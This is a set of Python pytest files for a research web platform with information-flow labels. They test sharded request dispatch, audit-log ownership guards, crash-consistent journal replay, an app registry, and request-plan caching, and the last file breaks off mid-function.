        for req, resp in zip(reqs, resps):
            assert resp.ok
            assert resp.body["title"] == req.params["title"]

    def test_batch_spans_multiple_shards(self):
        sp, clients = build_sharded(3)
        before = list(sp.routed)
        reqs = [HttpRequest("GET", "/app/blog/list",
                            cookies=dict(clients[u].cookies))
                for u in USERS]
        sp.handle_batch(reqs)
        grew = [a - b for a, b in zip(sp.routed, before)]
        assert sum(grew) == len(USERS)
        assert sum(1 for g in grew if g) >= 2  # genuinely fanned out

    def test_batch_matches_sequential_dispatch(self):
        sp_a, clients_a = build_sharded(3)
        sp_b, clients_b = build_sharded(3)
        for u in USERS:
            assert clients_a[u].get("/app/blog/post", title=f"t-{u}",
                                    body="b").ok
            assert clients_b[u].get("/app/blog/post", title=f"t-{u}",
                                    body="b").ok
        reqs_a = [HttpRequest("GET", "/app/blog/read",
                              params={"title": f"t-{u}"},
                              cookies=dict(clients_a[u].cookies))
                  for u in USERS]
        reqs_b = [HttpRequest("GET", "/app/blog/read",
                              params={"title": f"t-{u}"},
                              cookies=dict(clients_b[u].cookies))
                  for u in USERS]
        batched = sp_a.handle_batch(reqs_a)
        sequential = [sp_b.handle_request(r) for r in reqs_b]
        assert [(r.status, r.body) for r in batched] \
            == [(r.status, r.body) for r in sequential]


class TestOwnershipGuards:
    def test_audit_bound_log_rejects_foreign_thread(self):
        log = AuditLog()
        log.bind_owner()
        log.record("spawn", True, "s", "same-thread ok")
        failures = []

        def intrude():
            try:
                log.record("spawn", True, "s", "cross-thread write")
            except CrossShardWrite as exc:
                failures.append(exc)

        t = threading.Thread(target=intrude)
        t.start()
        t.join()
        assert len(failures) == 1
        assert len(log) == 1  # the stream was not corrupted

    def test_unbind_restores_open_access(self):
        log = AuditLog()
        log.bind_owner(ident=12345)  # definitely not this thread
        with pytest.raises(CrossShardWrite):
            log.record("spawn", True, "s", "misrouted")
        log.unbind_owner()
        log.record("spawn", True, "s", "fine again")
        assert len(log) == 1

    def test_metrics_guard_rejects_foreign_thread(self):
        log = AuditLog()
        metrics = Metrics(log)
        metrics.bind_owner(ident=12345)
        with pytest.raises(CrossShardWrite):
            log.record("export", False, "gateway", "misrouted")
        metrics.unbind_owner()
        log.record("export", False, "gateway", "ok")
        assert metrics.count("export") == 1

    def test_thread_engine_binds_each_shard_log(self):
        sp, clients = build_sharded(2, engine="thread")
        assert clients["alice"].get("/app/blog/list").ok
        # every shard log is bound to its worker; a parent-thread
        # write is, by definition, a cross-shard violation
        with pytest.raises(CrossShardWrite):
            sp.shards[0].kernel.audit.record("spawn", True, "t", "stray")
        sp.shutdown()


class TestMergedAudit:
    def test_merge_orders_by_shard_then_seq(self):
        sp, clients = build_sharded(3)
        for u, c in clients.items():
            assert c.get("/app/blog/post", title=f"t-{u}", body="b").ok
        merged = list(sp.kernel.audit)
        streams = sp.kernel.audit.per_shard()
        assert merged == [e for stream in streams for e in stream]
        for stream in streams:
            assert [e.seq for e in stream] == sorted(e.seq for e in stream)

    def test_query_api_matches_per_shard_totals(self):
        sp, clients = build_sharded(3)
        for c in clients.values():
            assert c.get("/app/blog/post", title="t", body="b").ok
        view = sp.kernel.audit
        assert len(view) == sum(len(s.kernel.audit) for s in sp.shards)
        assert view.count("spawn") == sum(
            s.kernel.audit.count("spawn") for s in sp.shards)
        assert len(view.denials()) == sum(
            len(s.kernel.audit.denials()) for s in sp.shards)
        assert view.last() is not None

    def test_merge_identical_across_engines(self):
        streams = {}
        for engine in ("serial", "thread"):
            sp, clients = build_sharded(3, engine=engine)
            for u, c in clients.items():
                assert c.get("/app/blog/post", title=f"t-{u}", body="b").ok
            streams[engine] = [(e.category, e.allowed, e.subject, e.detail)
                               for e in sp.kernel.audit]
            sp.shutdown()
        assert streams["serial"] == streams["thread"]


class TestControlPlane:
    def test_user_verbs_land_on_home_shard(self):
        sp, _ = build_sharded(3)
        sp.set_profile("alice", music="jazz")
        home = sp.shards[sp.map.shard_of_user("alice")]
        assert home.account("alice").profile["music"] == "jazz"
        others = [s for i, s in enumerate(sp.shards)
                  if i != sp.map.shard_of_user("alice")]
        for other in others:
            assert "alice" not in other._accounts

    def test_declass_view_routes_grant_lookup(self):
        sp, _ = build_sharded(3)
        sp.grant_builtin_declassifier("bob", "friends-only",
                                      {"friends": ["alice"]})
        grant = sp.declass.grant_for("bob", "friends-only")
        assert grant is not None
        assert "alice" in grant.declassifier.config["friends"]

    def test_unknown_engine_rejected(self):
        with pytest.raises(ValueError):
            ShardedProvider(n_shards=2, engine="carrier-pigeon")

    def test_w5system_builds_sharded_provider(self):
        w5 = W5System(config=ProviderConfig.sharded(3))
        assert isinstance(w5.provider, ShardedProvider)
        assert w5.provider.n_shards == 3
        a = w5.add_user("alice", apps=["blog"])
        assert a.get("/app/blog/post", title="t", body="b").ok
        assert w5.audit().count("spawn") > 0
        w5.provider.shutdown()

    def test_sharded_preset_round_trips_describe(self):
        cfg = ProviderConfig.sharded(4, shard_engine="thread")
        desc = cfg.describe()
        assert desc["shards"] == 4
        assert desc["shard_engine"] == "thread"
        assert desc["request_plans"] is True
