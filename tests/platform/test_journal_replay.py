"""Differential proof for crash-consistent replay (PR 4 tentpole).

The claim: restoring the last full checkpoint and replaying the
journal's verified prefix reproduces the provider **byte-identically**
(canonical snapshot form) versus a full restore of a snapshot taken at
the same instant — at every operation boundary, and at *every possible
crash offset* inside the journal image (where the recovered state must
equal the floor record boundary's).
"""

import bisect
import copy
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.apps import STANDARD_CATALOG, install_standard_apps
from repro.net import ExternalClient
from repro.platform import (Provider, recover_provider, restore_provider,
                            set_password, snapshot_provider)


def canon(state) -> str:
    """Canonical snapshot bytes: dict order is irrelevant, list order
    must be deterministic (the satellite-1 sorting guarantees it);
    bytes payloads (legal in in-memory snapshots) hex-encode."""
    return json.dumps(
        state, sort_keys=True, separators=(",", ":"),
        default=lambda o: {"__bytes__": o.hex()}
        if isinstance(o, (bytes, bytearray)) else repr(o))


def fresh_provider() -> Provider:
    p = Provider(name="prod")
    install_standard_apps(p)
    p._durability.checkpoint()  # base includes the installed world
    return p


def assert_equiv(p_full: Provider, p_rec: Provider) -> None:
    assert canon(snapshot_provider(p_full)) == canon(snapshot_provider(p_rec))


# The durable-mutation vocabulary, as composable steps.
def _signup(name):
    return lambda p: p.signup(name, "pw")


MUTATIONS = {
    "signup": _signup("bob"),
    "signup2": _signup("amy"),
    "profile": lambda p: p.set_profile("bob", music="jazz", bio="hi"),
    "enable": lambda p: p.enable_app("bob", "blog", allow_write=True),
    "disable": lambda p: p.disable_app("bob", "blog"),
    "prefer": lambda p: p.prefer_module("bob", "cropper", "crop-smart"),
    "integrity": lambda p: p.set_integrity_policy("bob", True),
    "js": lambda p: p.set_js_policy("bob", "allow"),
    "pin": lambda p: p.pin_audited("bob", "blog", "1.0"),
    "unpin": lambda p: p.unpin_audited("bob", "blog"),
    "store": lambda p: p.store_user_data("bob", "d.txt", "day one"),
    "store_bytes": lambda p: p.store_user_data("bob", "p.bin",
                                               b"\x00\x01\xff"),
    "grant": lambda p: p.grant_builtin_declassifier(
        "bob", "friends-only", {"friends": ["amy"]}),
    "grant_public": lambda p: p.grant_builtin_declassifier(
        "amy", "public", {}),
    "config": lambda p: p.update_declassifier_config(
        "bob", "friends-only", friends={"amy", "carol"}),
    "revoke": lambda p: p.declass.revoke(
        "bob", p.account("bob").data_tag,
        declassifier_name="friends-only"),
    "endorse": lambda p: p.endorse_module("blog"),
    "retract": lambda p: p.endorsements.retract("blog"),
    "group": lambda p: p.groups.create("bob", "roommates"),
    "member_add": lambda p: p.groups.add_member("bob", "roommates", "amy",
                                                writer=True),
    "member_remove": lambda p: p.groups.remove_member("bob", "roommates",
                                                      "amy"),
    "clock": lambda p: setattr(p.declass, "now", 42.5),
    "delete": lambda p: p.delete_account("amy"),
}

#: A fixed rich timeline touching every subsystem (order matters:
#: each step's preconditions are created by earlier steps).
TIMELINE = ["signup", "signup2", "profile", "enable", "prefer",
            "integrity", "js", "pin", "store", "store_bytes", "grant",
            "grant_public", "config", "endorse", "group", "member_add",
            "clock", "member_remove", "unpin", "disable", "revoke",
            "retract", "delete"]


def run_timeline(steps, tolerant=False):
    """(provider, base snapshot, [journal offset after each step]).

    With ``tolerant`` a step whose precondition fails (e.g. creating
    the same file twice in a random interleaving) is skipped — the
    rejected call must leave no durable trace, which the differential
    assertions then verify.
    """
    p = fresh_provider()
    base = copy.deepcopy(p._durability.base)
    offsets = [0]
    for step in steps:
        try:
            MUTATIONS[step](p)
        except Exception:
            if not tolerant:
                raise
        offsets.append(p._durability.journal.size_bytes)
    return p, base, offsets


class TestReplayEqualsFullRestore:
    def test_rich_timeline_byte_identical(self):
        p, base, __ = run_timeline(TIMELINE)
        journal = bytes(p._durability.journal.raw_bytes())
        crash = copy.deepcopy(snapshot_provider(p))
        p_full, r1 = restore_provider(crash, app_catalog=STANDARD_CATALOG)
        p_rec, r2 = recover_provider(base, journal,
                                     app_catalog=STANDARD_CATALOG)
        assert r2["truncated_bytes"] == 0
        assert r2["records_replayed"] > len(TIMELINE)  # multi-record ops
        assert r2["unknown_ops"] == 0
        assert_equiv(p_full, p_rec)

    def test_every_operation_boundary(self):
        """Crash after each complete operation == full restore of the
        snapshot taken right after that operation."""
        p = fresh_provider()
        base = copy.deepcopy(p._durability.base)
        journal_so_far = []
        marks = []
        for step in TIMELINE:
            MUTATIONS[step](p)
            journal_so_far.append(bytes(p._durability.journal.raw_bytes()))
            marks.append(copy.deepcopy(snapshot_provider(p)))
        for step, journal, mark in zip(TIMELINE, journal_so_far, marks):
            p_rec, __ = recover_provider(base, journal,
                                         app_catalog=STANDARD_CATALOG)
            p_full, __ = restore_provider(copy.deepcopy(mark),
                                          app_catalog=STANDARD_CATALOG)
            assert canon(snapshot_provider(p_rec)) == \
                canon(snapshot_provider(p_full)), f"after {step!r}"

    def test_replayed_provider_serves_identical_responses(self):
        """The recovered provider is *behaviorally* identical: same
        request-plane responses and same audit stream as the fully
        restored one, for a probe hitting storage, policy, and app
        launch."""
        steps = ["signup", "signup2", "enable", "store", "grant",
                 "endorse"]
        p, base, __ = run_timeline(steps)
        p.enable_app("amy", "blog")
        bob = ExternalClient("bob", p.transport())
        bob.login("pw")
        bob.get("/app/blog/post", title="t", body="hello")
        journal = bytes(p._durability.journal.raw_bytes())
        crash = copy.deepcopy(snapshot_provider(p))

        p_full, __ = restore_provider(crash, app_catalog=STANDARD_CATALOG)
        p_rec, __ = recover_provider(base, journal,
                                     app_catalog=STANDARD_CATALOG)
        assert_equiv(p_full, p_rec)

        def probe(provider):
            set_password(provider, "amy", "npw")
            amy = ExternalClient("amy", provider.transport())
            amy.login("npw")
            responses = [
                amy.get("/app/blog/read", author="bob", title="t"),
                amy.get("/profile/bob"),
                amy.get("/app/blog/post", title="mine", body="amy's"),
            ]
            events = [(e.category, e.allowed, e.subject)
                      for e in provider.kernel.audit]
            return ([(r.status, r.body) for r in responses], events)

        full_resp, full_audit = probe(p_full)
        rec_resp, rec_audit = probe(p_rec)
        assert full_resp == rec_resp
        assert full_audit == rec_audit
        assert_equiv(p_full, p_rec)  # still identical after traffic


class TestCrashAtEveryOffset:
    def test_every_byte_offset_recovers_to_last_complete_record(self):
        """Cut the journal at *every* byte offset; recovery must equal
        recovery at the floor record boundary (torn tails are dropped,
        never half-applied), and boundary recoveries at operation marks
        must equal full restores."""
        steps = ["signup", "enable", "store_bytes", "grant"]
        p, base, op_offsets = run_timeline(steps)
        journal = bytes(p._durability.journal.raw_bytes())

        bounds = [0]
        pos = 0
        for line in journal.splitlines(keepends=True):
            pos += len(line)
            bounds.append(pos)

        bound_canon = {}
        for b in bounds:
            p_rec, __ = recover_provider(base, journal[:b],
                                         app_catalog=STANDARD_CATALOG)
            bound_canon[b] = canon(snapshot_provider(p_rec))
        # operation marks are record boundaries
        assert set(op_offsets) <= set(bounds)

        for cut in range(len(journal) + 1):
            p_rec, report = recover_provider(base, journal[:cut],
                                             app_catalog=STANDARD_CATALOG)
            floor = bounds[bisect.bisect_right(bounds, cut) - 1]
            assert canon(snapshot_provider(p_rec)) == bound_canon[floor], \
                f"crash at byte {cut}"
            assert report["truncated_bytes"] == cut - floor


class TestRandomInterleavings:
    @settings(max_examples=20, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(st.sampled_from([
        "profile", "enable", "prefer", "store", "store_bytes", "grant",
        "config", "revoke", "endorse", "retract", "js", "pin", "clock",
        "disable", "member_add", "member_remove", "unpin",
    ]), min_size=1, max_size=12),
        st.integers(min_value=0, max_value=10**9))
    def test_random_mutations_then_crash(self, steps, cut_seed):
        """Random durable-mutation interleavings, then a crash at a
        pseudo-random byte offset: recovery equals the floor-boundary
        recovery; a full journal equals the full restore."""
        prologue = ["signup", "signup2", "grant", "group"]
        p, base, __ = run_timeline(prologue + steps, tolerant=True)
        journal = bytes(p._durability.journal.raw_bytes())
        crash = copy.deepcopy(snapshot_provider(p))

        # complete journal: identical to a full restore
        p_full, __ = restore_provider(crash, app_catalog=STANDARD_CATALOG)
        p_rec, __ = recover_provider(base, journal,
                                     app_catalog=STANDARD_CATALOG)
        assert_equiv(p_full, p_rec)

        # torn journal: equals the floor record boundary's recovery
        cut = cut_seed % (len(journal) + 1)
        bounds = [0]
        pos = 0
        for line in journal.splitlines(keepends=True):
            pos += len(line)
            bounds.append(pos)
        floor = bounds[bisect.bisect_right(bounds, cut) - 1]
        p_cut, __ = recover_provider(base, journal[:cut],
                                     app_catalog=STANDARD_CATALOG)
        p_floor, __ = recover_provider(base, journal[:floor],
                                       app_catalog=STANDARD_CATALOG)
        assert_equiv(p_floor, p_cut)


class TestPostRecoveryLife:
    def test_new_mutations_after_recovery_are_journaled(self):
        """Recovery re-bases the journal: fresh mutations land in a new
        journal against the recovered checkpoint, and a second crash
        recovers them too."""
        p, base, __ = run_timeline(["signup", "enable", "store"])
        journal = bytes(p._durability.journal.raw_bytes())
        p_rec, __ = recover_provider(base, journal,
                                     app_catalog=STANDARD_CATALOG)
        assert p_rec._durability.journal.seq == 0  # re-based
        base2 = copy.deepcopy(p_rec._durability.base)
        p_rec.signup("carol", "pw")
        p_rec.store_user_data("carol", "x.txt", "hello again")
        journal2 = bytes(p_rec._durability.journal.raw_bytes())
        assert p_rec._durability.journal.seq > 0
        p_rec2, __ = recover_provider(base2, journal2,
                                      app_catalog=STANDARD_CATALOG)
        assert p_rec2.read_user_data("carol", "x.txt") == "hello again"
        assert_equiv(p_rec, p_rec2)

    def test_post_recovery_ids_match_full_restore(self):
        """After deletions, both recovery paths must leave identical
        allocator positions: the next signup/insert gets the same tag
        and row ids either way."""
        p, base, __ = run_timeline(["signup", "signup2", "store",
                                    "delete"])
        journal = bytes(p._durability.journal.raw_bytes())
        crash = copy.deepcopy(snapshot_provider(p))
        p_full, __ = restore_provider(crash, app_catalog=STANDARD_CATALOG)
        p_rec, __ = recover_provider(base, journal,
                                     app_catalog=STANDARD_CATALOG)
        a_full = p_full.signup("dora", "pw")
        a_rec = p_rec.signup("dora", "pw")
        assert a_full.data_tag.tag_id == a_rec.data_tag.tag_id
        assert a_full.write_tag.tag_id == a_rec.write_tag.tag_id
        assert_equiv(p_full, p_rec)
