"""Unit tests for the application/module registry."""

import pytest

from repro.platform import (APP, AppModule, MODULE, NoSuchApp, NotAuthorized,
                            PlatformError, Registry)


def handler_v1(ctx):
    return "v1"


def handler_v2(ctx):
    return "v2"


def fork_handler(ctx):
    return "forked"


@pytest.fixture()
def reg():
    return Registry()


def make(name="photos", developer="devA", handler=handler_v1, **kw):
    return AppModule(name=name, developer=developer, handler=handler, **kw)


class TestRegistration:
    def test_register_and_get(self, reg):
        reg.register(make())
        assert reg.get("photos").developer == "devA"

    def test_unknown_app(self, reg):
        with pytest.raises(NoSuchApp):
            reg.get("nope")

    def test_contains(self, reg):
        reg.register(make())
        assert "photos" in reg
        assert "photos@1.0" in reg
        assert "other" not in reg

    def test_same_developer_can_publish_new_version(self, reg):
        reg.register(make(version="1.0"))
        reg.register(make(version="2.0", handler=handler_v2))
        assert reg.get("photos").version == "2.0"

    def test_other_developer_cannot_squat(self, reg):
        reg.register(make())
        with pytest.raises(NotAuthorized):
            reg.register(make(developer="devB", version="3.0"))

    def test_duplicate_version_rejected(self, reg):
        reg.register(make(version="1.0"))
        with pytest.raises(PlatformError):
            reg.register(make(version="1.0", handler=handler_v2))


class TestVersioning:
    def test_pinned_version_resolves(self, reg):
        reg.register(make(version="1.0"))
        reg.register(make(version="2.0", handler=handler_v2))
        assert reg.get("photos@1.0").handler is handler_v1
        assert reg.get("photos@2.0").handler is handler_v2

    def test_unknown_version(self, reg):
        reg.register(make(version="1.0"))
        with pytest.raises(NoSuchApp):
            reg.get("photos@9.9")

    def test_versions_listing(self, reg):
        reg.register(make(version="1.0"))
        reg.register(make(version="2.0", handler=handler_v2))
        assert reg.versions("photos") == ["1.0", "2.0"]


class TestForking:
    def test_fork_open_source(self, reg):
        reg.register(make())
        fork = reg.fork("photos", "devB", handler=fork_handler)
        assert fork.developer == "devB"
        assert fork.forked_from == "devA/photos"
        assert reg.get(fork.name).handler is fork_handler

    def test_fork_keeps_original_handler_by_default(self, reg):
        reg.register(make())
        fork = reg.fork("photos", "devB")
        assert fork.handler is handler_v1

    def test_fork_closed_source_refused(self, reg):
        reg.register(make(source_open=False))
        with pytest.raises(NotAuthorized):
            reg.fork("photos", "devB")

    def test_fork_custom_name(self, reg):
        reg.register(make())
        fork = reg.fork("photos", "devB", new_name="better-photos")
        assert reg.get("better-photos").forked_from == "devA/photos"


class TestSourceAccess:
    def test_open_source_readable(self, reg):
        reg.register(make())
        assert "def handler_v1" in reg.source_of("photos")

    def test_closed_source_refused(self, reg):
        reg.register(make(name="secretapp", source_open=False))
        with pytest.raises(NotAuthorized):
            reg.source_of("secretapp")

    def test_loc_counts_nonblank(self, reg):
        reg.register(make())
        assert reg.get("photos").loc() == 2


class TestEnumeration:
    def test_by_kind_and_developer(self, reg):
        reg.register(make(name="a1", kind=APP))
        reg.register(make(name="m1", kind=MODULE))
        reg.register(make(name="m2", kind=MODULE, developer="devB"))
        assert [m.name for m in reg.by_kind(MODULE)] == ["m1", "m2"]
        assert [m.name for m in reg.by_developer("devB")] == ["m2"]

    def test_dependency_edges(self, reg):
        reg.register(make(name="lib"))
        reg.register(make(name="app1", imports=("lib", "external-untracked")))
        assert reg.dependency_edges() == [("app1", "lib")]

    def test_len_counts_names_not_versions(self, reg):
        reg.register(make(version="1.0"))
        reg.register(make(version="2.0", handler=handler_v2))
        assert len(reg) == 1
