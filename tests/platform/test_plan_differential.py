"""Differential property test: compiled request plans change nothing.

Two full deployments — identical except ``request_plans`` — are driven
through the same randomly generated interleaving of requests and
policy mutations.  The bar here is *stricter* than the pool/cache
differentials: because plans only replace pure recomputation (never a
spawn, a charge, or an audit record), the two audit streams must be
**byte-identical** — same categories, same verdicts, same subjects,
same detail strings, pids included — and every HTTP response must
match exactly.  Hypothesis shrinks any divergence to a minimal
witness.

A second class pins each plan-invalidation edge individually:
befriend/unfriend (authority epoch), app disable (cap-index epoch),
account deletion (cap-index epoch), upload/fork (registry epoch), and
a journal-replay restore (which rewires tag identity wholesale).
"""

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core import W5System
from repro.net import HttpRequest
from repro.platform import ProviderConfig
from repro.resources.containers import KINDS

USERS = ("alice", "bob", "carol")
APPS = ("blog", "social")

#: The M14 mandated-pipeline fast paths and their opt-outs.
M14_FLAGS = ("lazy_audit", "compiled_transitions", "batched_charges",
             "verdict_slots")
M14_NAIVE = {flag: False for flag in M14_FLAGS}


def build_deployment(planned: bool) -> W5System:
    config = ProviderConfig.fast() if planned else ProviderConfig()
    w5 = W5System(name="plans", config=config)
    for user in USERS:
        w5.add_user(user, apps=APPS)
    w5.befriend("alice", "bob")
    return w5


def apply_op(w5: W5System, op) -> tuple:
    """Run one request/mutation; return the exact outcome."""
    kind = op[0]
    if kind == "post":
        _, ui, i = op
        user = USERS[ui % len(USERS)]
        r = w5.client(user).get("/app/blog/post",
                                title=f"t{i}", body=f"b{i}")
    elif kind == "read":
        _, ui, vi, i = op
        author = USERS[ui % len(USERS)]
        viewer = USERS[vi % len(USERS)]
        r = w5.client(viewer).get("/app/blog/read",
                                  author=author, title=f"t{i}")
    elif kind == "list":
        _, ui, vi = op
        author = USERS[ui % len(USERS)]
        viewer = USERS[vi % len(USERS)]
        r = w5.client(viewer).get("/app/blog/list", author=author)
    elif kind == "anon":
        r = w5.anonymous_client().get("/app/blog/list", author="alice")
    elif kind == "missing":
        _, ui = op
        r = w5.client(USERS[ui % len(USERS)]).get("/app/nonesuch/run")
    elif kind == "toggle":
        _, ui, on = op
        user = USERS[ui % len(USERS)]
        path = "/policy/enable" if on else "/policy/disable"
        r = w5.client(user).post(path, params={"app": "blog"})
    elif kind == "befriend":
        _, ui, vi = op
        a, b = USERS[ui % len(USERS)], USERS[vi % len(USERS)]
        if a == b:
            return ("skip",)
        w5.befriend(a, b)
        return ("befriended",)
    elif kind == "unfriend":
        _, ui, vi = op
        a, b = USERS[ui % len(USERS)], USERS[vi % len(USERS)]
        if a == b:
            return ("skip",)
        w5.unfriend(a, b)
        return ("unfriended",)
    else:
        return ("noop",)
    return (r.status, r.body)


def ops():
    post = st.tuples(st.just("post"), st.integers(0, 2), st.integers(0, 3))
    read = st.tuples(st.just("read"), st.integers(0, 2), st.integers(0, 2),
                     st.integers(0, 3))
    list_ = st.tuples(st.just("list"), st.integers(0, 2), st.integers(0, 2))
    anon = st.tuples(st.just("anon"))
    missing = st.tuples(st.just("missing"), st.integers(0, 2))
    toggle = st.tuples(st.just("toggle"), st.integers(0, 2), st.booleans())
    befriend = st.tuples(st.just("befriend"), st.integers(0, 2),
                         st.integers(0, 2))
    unfriend = st.tuples(st.just("unfriend"), st.integers(0, 2),
                         st.integers(0, 2))
    return st.lists(st.one_of(post, read, list_, anon, missing, toggle,
                              befriend, unfriend), max_size=25)


def audit_bytes(w5: W5System) -> list:
    """The audit stream, byte-for-byte (sans the monotonic seq)."""
    return [(e.category, e.allowed, e.subject, e.detail)
            for e in w5.provider.kernel.audit]


class TestPlannedPlaneIsByteIdentical:
    @settings(max_examples=30, deadline=None)
    @given(ops())
    def test_identical_histories_identical_streams(self, seed_ops):
        planned = build_deployment(planned=True)
        unplanned = build_deployment(planned=False)
        assert planned.provider.plans.enabled
        assert not unplanned.provider.plans.enabled
        assert audit_bytes(planned) == audit_bytes(unplanned)

        for op in seed_ops:
            out_p = apply_op(planned, op)
            out_u = apply_op(unplanned, op)
            assert out_p == out_u, f"response divergence on {op}"

        assert audit_bytes(planned) == audit_bytes(unplanned)

    @settings(max_examples=15, deadline=None)
    @given(ops())
    def test_batch_entrypoint_matches_sequential(self, seed_ops):
        """handle_batch == N× handle_request, byte for byte."""
        batched = build_deployment(planned=True)
        sequential = build_deployment(planned=True)
        # mutations first, then a burst of reads through both doors
        for op in seed_ops:
            if op[0] in ("befriend", "unfriend", "toggle", "post"):
                apply_op(batched, op)
                apply_op(sequential, op)
        session_b = batched.provider.sessions.login("alice", "pw").token
        session_s = sequential.provider.sessions.login("alice", "pw").token

        def burst(session):
            return [HttpRequest(method="GET", path="/app/blog/list",
                                params={"author": "alice"},
                                cookies={"w5_session": session})
                    for _ in range(6)]

        responses_b = batched.provider.handle_batch(burst(session_b))
        responses_s = [sequential.provider.handle_request(r)
                       for r in burst(session_s)]
        assert [(r.status, r.body) for r in responses_b] \
            == [(r.status, r.body) for r in responses_s]
        assert audit_bytes(batched) == audit_bytes(sequential)


def build_m14(fast: bool) -> W5System:
    """A planned deployment with the M14 fast paths on or off.

    The quota and ring bound are deliberately tight so the interleaved
    streams genuinely exercise quota-exhaustion denials (batched
    charges must refuse at the same item with the same message) and
    audit ring eviction (lazy records must evict and count the same).
    """
    config = (ProviderConfig.fast() if fast
              else ProviderConfig.fast().replace(**M14_NAIVE))
    w5 = W5System(name="m14", config=config,
                  quotas={"db_rows_scanned": 6},
                  audit_max_events=64)
    for user in USERS:
        w5.add_user(user, apps=APPS)
    w5.befriend("alice", "bob")
    return w5


class TestM14FastPathsAreByteIdentical:
    """Lazy audit + compiled transitions + batched charges + verdict
    slots vs their ``ProviderConfig`` opt-outs: identical op streams
    must produce byte-identical audit streams (ring eviction and pids
    included), identical charge totals per kind, and identical denial
    counters.  The op mix is label-change heavy (every cross-user blog
    read taints a process and changes labels) and the tight
    ``db_rows_scanned`` quota makes denials fire as posts accumulate.
    """

    @settings(max_examples=30, deadline=None)
    @given(ops())
    def test_fast_vs_naive_pipeline(self, seed_ops):
        fast = build_m14(fast=True)
        naive = build_m14(fast=False)
        for flag in M14_FLAGS:
            assert getattr(fast.provider.config, flag)
            assert not getattr(naive.provider.config, flag)

        for op in seed_ops:
            out_f = apply_op(fast, op)
            out_n = apply_op(naive, op)
            assert out_f == out_n, f"response divergence on {op}"

        audit_f = fast.provider.kernel.audit
        audit_n = naive.provider.kernel.audit
        assert audit_bytes(fast) == audit_bytes(naive)
        assert audit_f.dropped == audit_n.dropped
        res_f = fast.provider.kernel.resources
        res_n = naive.provider.kernel.resources
        for kind in KINDS:
            assert res_f.total(kind) == res_n.total(kind), kind
        assert res_f.denials == res_n.denials
        # the O(1) counters agree with each other across both modes
        for cat in ("spawn", "exit", "label_change", "db_query",
                    "file_read", "export", "resource"):
            for allowed in (None, True, False):
                assert (audit_f.count(category=cat, allowed=allowed)
                        == audit_n.count(category=cat, allowed=allowed)), \
                    (cat, allowed)

    def test_transition_cache_populates_and_survives_flush(self):
        w5 = build_m14(fast=True)
        w5.client("alice").get("/app/blog/post", title="t", body="b")
        r = w5.client("bob").get("/app/blog/read", author="alice",
                                 title="t")
        assert r.status == 200
        kernel = w5.provider.kernel
        assert kernel._transitions  # the tainted read compiled its transition
        kernel.flow_cache.invalidate_all(reason="test")
        r = w5.client("bob").get("/app/blog/read", author="alice",
                                 title="t")
        assert r.status == 200
        # the generation guard flushed and re-primed the cache
        assert kernel._transitions_gen == kernel.flow_cache.generation
        assert kernel._transitions


class TestPlanInvalidation:
    """Each policy edge that must retire a compiled plan, pinned."""

    def _warm(self, w5, viewer="bob", author="alice"):
        r = w5.client(viewer).get("/app/blog/list", author=author)
        assert r.ok
        return r

    def test_befriend_unfriend_rotates_authority(self):
        w5 = build_deployment(planned=True)
        w5.client("alice").get("/app/blog/post", title="t", body="b")
        assert self._warm(w5).status == 200
        plan = w5.provider.plans.lookup("blog", "bob")
        w5.unfriend("alice", "bob")
        assert not plan.is_current(w5.provider)
        r = w5.client("bob").get("/app/blog/read",
                                 author="alice", title="t")
        assert r.status == 403  # authority really shrank
        w5.befriend("alice", "bob")
        r = w5.client("bob").get("/app/blog/read",
                                 author="alice", title="t")
        assert r.status == 200  # and grew back

    def test_disable_app_retires_plan(self):
        w5 = build_deployment(planned=True)
        w5.client("alice").get("/app/blog/post", title="t", body="b")
        assert w5.client("alice").get("/app/blog/read", author="alice",
                                      title="t").status == 200
        plan = w5.provider.plans.lookup("blog", "alice")
        w5.provider.disable_app("alice", "blog")
        assert not plan.is_current(w5.provider)
        r = w5.client("alice").get("/app/blog/read", author="alice",
                                   title="t")
        assert r.status == 403  # relaunch without alice's caps

    def test_delete_account_retires_plan(self):
        w5 = build_deployment(planned=True)
        self._warm(w5, viewer="carol", author="carol")
        plan = w5.provider.plans.lookup("blog", "carol")
        assert plan is not None
        w5.provider.delete_account("carol")
        assert not plan.is_current(w5.provider)

    def test_upload_retires_plan_via_registry_epoch(self):
        w5 = build_deployment(planned=True)
        self._warm(w5)
        plan = w5.provider.plans.lookup("blog", "bob")
        w5.provider.fork_app("blog", "new-dev")
        assert not plan.is_current(w5.provider)

    def test_account_policy_bypasses_live(self):
        """require_endorsed never bumps an epoch — checked per request."""
        w5 = build_deployment(planned=True)
        self._warm(w5)
        assert w5.provider.plans.lookup("blog", "bob") is not None
        w5.provider.set_integrity_policy("bob", require_endorsed=True)
        assert w5.provider.plans.lookup("blog", "bob") is None
        stats = w5.provider.plans.stats()
        assert stats["bypasses"] >= 1
        # unendorsed app + endorsement requirement -> the generic
        # path's refusal, not a stale plan's allow
        r = w5.client("bob").get("/app/blog/list", author="alice")
        assert r.status == 403

    def test_journal_replay_restore_starts_plans_cold(self):
        import copy

        from repro.apps import STANDARD_CATALOG
        from repro.platform import recover_provider, set_password

        w5 = build_deployment(planned=True)
        base = copy.deepcopy(w5.provider._durability.base)
        w5.client("alice").get("/app/blog/post", title="t", body="b")
        self._warm(w5)
        journal = bytes(w5.provider._durability.journal.raw_bytes())
        recovered, report = recover_provider(
            base, journal, STANDARD_CATALOG,
            config=ProviderConfig.fast())
        assert recovered.config.request_plans
        assert recovered.plans.stats()["entries"] == 0
        # a fresh login drives the planned path against restored state
        set_password(recovered, "alice", "pw")
        session = recovered.sessions.login("alice", "pw").token
        req = HttpRequest(method="GET", path="/app/blog/list",
                          params={"author": "alice"},
                          cookies={"w5_session": session})
        r = recovered.handle_request(req)
        assert r.status == 200
        assert "t" in str(r.body)
