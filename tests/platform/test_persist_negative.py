"""Negative tests: corrupted or mismatched snapshots fail cleanly."""

import json

import pytest

from repro.apps import STANDARD_CATALOG, install_standard_apps
from repro.labels import TagError
from repro.platform import Provider, restore_provider, snapshot_provider


@pytest.fixture()
def snapshot():
    p = Provider(name="prod")
    install_standard_apps(p)
    p.signup("bob", "pw")
    p.enable_app("bob", "blog")
    p.grant_builtin_declassifier("bob", "public")
    p.store_user_data("bob", "f", "x")
    return json.loads(json.dumps(snapshot_provider(p)))


class TestCorruptedSnapshots:
    def test_clean_snapshot_restores(self, snapshot):
